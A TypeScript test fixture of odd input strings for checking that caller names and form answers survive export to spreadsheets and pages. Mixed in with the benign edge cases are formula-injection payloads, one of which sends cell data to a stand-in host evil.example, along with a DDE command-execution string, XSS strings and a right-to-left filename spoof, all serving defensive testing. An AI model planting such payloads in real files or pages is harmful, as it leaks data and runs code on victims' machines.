/**
 * What some callers write: in the name that their phone sends, in texts, in form answers.
 * A careless program turns each into a formula, a number, a date or a broken row.
 */
export const ODD_TEXTS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click to see your bill")',
  '+1+1',
  "'quoted",
  '<img src=x onerror=alert(1)>',
  '-2+3',
  '@SUM(A1:A9)',
  'TRUE',
  '0012',
  '2026-03-01',
  '1/2',
  '🚿🔥 Ana & Zoë 👩🏽‍🔧',
  'مرحبا بالعالم',
  'שלום (RTL) 123',
  'first line\nsecond line\r\nthird',
  '"double", comma; semicolon\ttab',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("https://evil.example","//a")',
  '1E5',
  '  leading and trailing  ',
  '#REF!',
  "''twice",
  '</script><script>alert(1)</script>',
  '$1.50',
  '50%',
  'N/A',
  'null',
  '\u202Egnp.exe',
  'x'.repeat(400),
];

/** Form answers have no length limit: this one is too long for a cell. */
const LONG_ANSWER = 'It is a long story. '.repeat(3000);
const ODD_ANSWERS: readonly string[] = [...ODD_TEXTS, LONG_ANSWER];

export const oddAnswer = (n: number): string => ODD_ANSWERS[n % ODD_ANSWERS.length] as string;

/** The `n`-th odd text. They repeat in order. */
export const oddText = (n: number): string => ODD_TEXTS[n % ODD_TEXTS.length] as string;

/** True for one of each `1 / rate` consecutive numbers: an exact rate, not a probability. */
export const isOdd = (n: number, rate: number) => rate > 0 && n % Math.max(1, Math.round(1 / rate)) === 3;
